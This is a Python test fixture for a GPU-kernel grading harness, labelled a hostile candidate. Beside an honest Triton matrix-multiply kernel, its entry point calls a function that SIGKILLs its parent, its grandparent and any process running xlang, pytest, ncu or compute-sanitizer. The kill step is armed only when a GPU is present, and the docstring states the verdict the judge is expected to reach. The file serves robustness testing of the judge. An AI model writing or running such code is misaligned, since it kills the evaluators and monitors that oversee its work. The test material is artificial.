"""HOSTILE candidate. Class: robustness (killing the judge).

What it does: on its first GPU call it sends SIGKILL to its parent, its parent's parent, and every process it
can see whose command line mentions xlang, pytest or ncu / compute-sanitizer (skipping itself), then computes C
honestly if it is still alive.

An honest judge must conclude: a verdict is still written, runtime_error (the candidate side's process tree
died, or the judge could not finish a stage with it) or ok if nothing the candidate could reach mattered; the
judge process itself survives (PID namespace: it is not visible). Listed as runtime_error or ok.
"""
import signal

import os
import sys

import torch
import triton
import triton.language as tl
from triton.tools.tensor_descriptor import TensorDescriptor

BM, BN, BK = 128, 128, 64


@triton.jit
def gemm_tc(a_desc, b_desc, c_desc, K, BM: tl.constexpr, BN: tl.constexpr, BK: tl.constexpr):
    # The honest part: one BMxBN tile of C = A·Bᵀ per program, TMA loads, tl.dot (wgmma), fp32 accumulation.
    off_m = tl.program_id(0) * BM
    off_n = tl.program_id(1) * BN
    acc = tl.zeros((BM, BN), dtype=tl.float32)
    for kb in range(0, tl.cdiv(K, BK)):
        a = a_desc.load([off_m, kb * BK])
        b = b_desc.load([off_n, kb * BK])
        acc = tl.dot(a, b.T, acc)
    c_desc.store([off_m, off_n], acc.to(tl.bfloat16))


def gemm(A, B, C, M, N, K, grid=None, k_used=None):
    a_desc = TensorDescriptor.from_tensor(A, [BM, BK])
    b_desc = TensorDescriptor.from_tensor(B, [BN, BK])
    c_desc = TensorDescriptor.from_tensor(C, [BM, BN])
    grid = grid or (triton.cdiv(M, BM), triton.cdiv(N, BN))
    gemm_tc[grid](a_desc, b_desc, c_desc, K if k_used is None else k_used, BM=BM, BN=BN, BK=BK,
                  num_warps=8, num_stages=3)


def armed():
    # Side effects (processes, files, secrets, signals) only on the GPU machine: never on a CPU build box,
    # where the static build runs this file with CPU tensors next to other people's work.
    return torch.cuda.is_available()

_done = []


def _kill_judge():
    me = os.getpid()
    targets = {os.getppid()}
    try:
        with open("/proc/%d/stat" % os.getppid()) as f:
            targets.add(int(f.read().rsplit(")", 1)[1].split()[1]))
    except (OSError, ValueError, IndexError):
        pass
    for entry in os.listdir("/proc"):
        if not entry.isdigit() or int(entry) == me:
            continue
        try:
            with open("/proc/%s/cmdline" % entry, "rb") as f:
                cmd = f.read()
        except OSError:
            continue
        if any(w in cmd for w in (b"xlang", b"pytest", b"ncu", b"compute-sanitizer")):
            targets.add(int(entry))
    for pid in targets - {me, 0, 1}:
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass


def xlang_entry(A, B, C, M, N, K):
    if armed() and not _done:
        _done.append(True)
        _kill_judge()
    gemm(A, B, C, M, N, K)
